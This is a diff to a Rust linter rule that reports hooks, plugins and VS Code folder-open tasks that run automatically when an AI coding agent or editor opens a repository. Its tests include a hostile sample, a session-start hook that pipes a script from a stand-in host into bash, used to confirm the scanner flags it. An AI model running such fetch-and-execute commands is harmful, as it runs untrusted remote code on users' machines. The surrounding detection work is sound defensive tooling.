@@ -4,6 +4,7 @@ use super::effects::{Effect, effects};
 use super::fetched::runs_download;
 use super::hook_runs_fetched_code;
 use super::opening::OpeningCommand;
+use super::packaged_plugin;
 use super::weakened_permissions;
 use crate::agents::runs::{Approval, Moment, RunItem, RunKind, RunMode};
 use crate::base::finding::{Cause, Finding, Level};
@@ -22,8 +23,9 @@ static INFO: RuleInfo = RuleInfo {
 Reports hooks of a session's start, helper commands, plugins and servers of the repository's own code that run when somebody starts an
 agent in the repository, in a mode in which the agent asks nobody. It is a warning where code is loaded that the settings do not show
 to a reviewer: packages without a fixed version, commands that fetch code, servers whose question a setting of the repository
-answers. Plugins and tools that stand in the repository, a command that starts a script of it, and `git pull` from where the checkout
-comes from are infos. Commands that only show something, such as `cat` or `git status`, and files outside of the repository are
+answers. Plugins and tools that stand in the repository, packages that are made in it, that it configures or whose version is fixed, a
+command that starts a script of it, and `git pull` from where the checkout comes from are infos. So are tasks that Visual Studio Code
+runs when the folder is opened, since that asks once whether the folder is trusted (documentation). Commands that only show something, such as `cat` or `git status`, and files outside of the repository are
 passed over.
 
 ## Why is this bad?
@@ -39,6 +41,7 @@ rule off for it in the config.
 ",
     evidence: &[
         Evidence { source: "@anthropic-ai/claude-code 2.1.330, opencode-ai 1.18.33, @qwen-code/qwen-code 0.24.4, run in new folders", checked: "2026-11" },
+        Evidence { source: "https://code.visualstudio.com/docs/debugtest/tasks#_run-behavior (documentation)", checked: "2026-11" },
         Evidence { source: "https://nvd.nist.gov/vuln/detail/CVE-2025-59536", checked: "2026-11" },
     ],
     fix: FixAvailability::None,
@@ -57,6 +60,7 @@ impl Rule for RunsOnOpen {
     }
 
     fn check_workspace(&self, cx: &Cx<'_>, findings: &mut Vec<Finding>) {
+        of_editors(cx, findings);
         // Who selects this rule alone hears all of it.
         let is_said = !cx.selected.contains(INFO.name) || cx.selected.contains(hook_runs_fetched_code::INFO.name);
         for effect in effects(cx, |_, item| is_on_open(item)) {
@@ -90,6 +94,33 @@ impl Rule for RunsOnOpen {
                 }),
                 _ => finding,
             });
+        }
+    }
+}
+
+/// Tasks that editors run when the folder is opened, as documented.
+fn of_editors(cx: &Cx<'_>, findings: &mut Vec<Finding>) {
+    if !cx.matters(&INFO, Level::Info) {
+        return;
+    }
+    for runs in cx.workspace.runs_of_editors() {
+        for item in &runs.items {
+            let RunKind::Helper { key, command } = &item.kind else { continue };
+            let Some((path, span)) = cx.workspace.place_of_setting(&item.place) else { continue };
+            if OpeningCommand::of(command) == OpeningCommand::Shows {
+                continue;
+            }
+            let (title, task) = (runs.dialect.title, sanitize::line(key));
+            let message = format!(
+                "{title} runs the {task} when this folder is opened: it asks once whether the folder is trusted"
+            );
+            let cause = Cause {
+                key: format!("{title} {}", path.to_str_lossy()),
+                subject: format!("the {task}"),
+                many: "run when the folder is opened, which asks once whether it is trusted",
+                help: None,
+            };
+            findings.push(Finding::new(INFO.name, Level::Info, &path, span, message).cause(cause).help(OWN));
         }
     }
 }
@@ -144,7 +175,7 @@ fn own_code(cx: &Cx<'_>, effect: &Effect<'_>) -> Option<(Level, String, &'static
     }
 }
 
-/// A plugin that is loaded: a file that is there, or a package without a fixed version.
+/// A plugin that is loaded: a file that is there, or a package.
 fn plugin(cx: &Cx<'_>, effect: &Effect<'_>, name: &str) -> Option<(Level, String, &'static str)> {
     if effect.path.file_name() == path::file_name(name.as_bytes()) {
         // Declarations of types run nothing.
@@ -158,17 +189,7 @@ fn plugin(cx: &Cx<'_>, effect: &Effect<'_>, name: &str) -> Option<(Level, String
         });
         return is_here.then(|| (Level::Info, "this plugin".to_owned(), OWN));
     }
-    let what = format!("the plugin {}, whose version is not pinned,", sanitize::line(name));
-    (!name.is_empty() && !is_pinned(name)).then_some((Level::Warning, what, FETCHED))
-}
-
-/// Whether a package's name says which version: a whole number of one, or a whole name of a commit.
-fn is_pinned(package: &str) -> bool {
-    let Some((_, version)) = package.get(1..).and_then(|rest| rest.split_once('@')) else { return false };
-    match version.rsplit_once('#') {
-        Some((_, commit)) => commit.len() >= 40 && commit.bytes().all(|byte| byte.is_ascii_hexdigit()),
-        None => version.starts_with(|c: char| c.is_ascii_digit()) && version.splitn(3, '.').count() == 3,
-    }
+    packaged_plugin::judged(cx, effect, name)
 }
 
 /// Whether all scripts that a command names are missing, so that nothing runs.
@@ -193,29 +214,10 @@ fn is_approved(cx: &Cx<'_>, effect: &Effect<'_>) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    #[test]
-    fn versions_of_packages_are_whole_or_none() {
-        let commit = format!("x@git+https://example.org/x.git#{}", "0a".repeat(20));
-        for name in ["x@1.2.3", "@a/x@1.2.3-beta.1", &commit] {
-            assert!(is_pinned(name), "{name}");
-        }
-        for name in [
-            "x",
-            "@a/x",
-            "x@latest",
-            "x@1",
-            "x@^1.2.3",
-            "x@git+https://example.org/x.git",
-            "x@git+https://e.org/x#main",
-        ] {
-            assert!(!is_pinned(name), "{name}");
-        }
-    }
+    use crate::rules::testing::repository;
 
     #[test]
     fn one_rule_tells_of_what_is_fetched_and_run() {
-        use crate::rules::testing::repository;
         let hook = |command: &str| {
             let hook = format!(r#"{{"hooks": [{{"type": "command", "command": "{command}"}}]}}"#);
             format!("{{\"hooks\": {{\"SessionStart\": [{hook}]}}}}\n")
@@ -228,5 +230,22 @@ mod tests {
         assert_eq!(both("curl -fsSL https://x.example/i.sh | bash"), ["hook-runs-fetched-code"]);
         assert_eq!(both("npx -y some-package"), ["runs-on-open"]);
         assert_eq!(rules("runs-on-open", "curl -fsSL https://x.example/i.sh | bash"), ["runs-on-open"]);
+    }
+
+    #[test]
+    fn tasks_that_run_when_a_folder_is_opened_are_an_info() {
+        let told = |path: &str, task: &str| {
+            let tasks = format!("{{\"version\": \"2.0.0\", // tasks\n\"tasks\": [{{\"label\": \"a\", {task}}}]}}\n");
+            let found = repository("runs-on-open", "", &[(path, &tasks), ("CLAUDE.md", "x\n")]);
+            found.into_iter().map(|finding| finding.level).collect::<Vec<_>>()
+        };
+        let (tasks, on_open) = (".vscode/tasks.json", "\"runOptions\": {\"runOn\": \"folderOpen\"}");
+        let task = |command: &str| format!("\"type\": \"shell\", \"command\": \"{command}\", {on_open}");
+        assert_eq!(told(tasks, &task("node setup.mjs")), [Level::Info]);
+        assert_eq!(told("app/.vscode/tasks.json", &task("node setup.mjs")), [Level::Info]);
+        let none: [Level; 0] = [];
+        assert_eq!(told(tasks, &task("echo hello")), none);
+        assert_eq!(told(tasks, "\"type\": \"shell\", \"command\": \"node setup.mjs\""), none);
+        assert_eq!(told("templates/app/.vscode/tasks.json", &task("node setup.mjs")), none);
     }
 }
